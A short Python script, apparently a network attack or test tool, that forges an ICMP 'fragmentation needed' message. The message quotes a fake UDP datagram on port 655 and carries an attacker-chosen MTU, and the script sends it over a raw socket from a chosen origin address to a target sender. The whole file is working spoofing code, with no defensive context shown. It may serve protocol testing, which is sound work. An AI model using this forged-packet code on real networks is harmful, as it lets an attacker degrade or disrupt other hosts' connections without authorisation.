"""Forged "fragmentation needed": forge.py FROM SENDER RECEIVER MTU, about a datagram between the ports 655."""

from __future__ import annotations

import socket
import struct
import sys


def checksum(data: bytes) -> int:
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def main() -> None:
    origin, sender, receiver, mtu = sys.argv[1:]
    addresses = socket.inet_aton(sender) + socket.inet_aton(receiver)
    quoted = struct.pack("!BBHHHBBH8s", 0x45, 0, 1400, 1, 0x4000, 60, 17, 0, addresses)
    quoted += struct.pack("!HHHH", 655, 655, 1380, 0)
    message = struct.pack("!BBHHH", 3, 4, 0, 0, int(mtu)) + quoted
    message = message[:2] + struct.pack("!H", checksum(message)) + message[4:]
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as sock:
        sock.bind((origin, 0))
        sock.sendto(message, (sender, 0))


if __name__ == "__main__":
    main()
